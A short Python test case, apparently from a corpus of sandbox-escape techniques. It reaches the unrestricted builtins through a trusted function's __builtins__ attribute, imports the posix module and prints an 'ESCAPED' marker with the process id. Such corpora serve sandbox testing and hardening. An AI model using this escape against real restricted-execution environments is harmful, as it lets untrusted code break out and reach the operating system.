# technique: function.__builtins__ of a trusted function
# goal: builtins
# source: Python 3.10, bpo-42990
import textwrap
print('ESCAPED pid=%d' % textwrap.dedent.__builtins__['__import__']('posix').getpid())
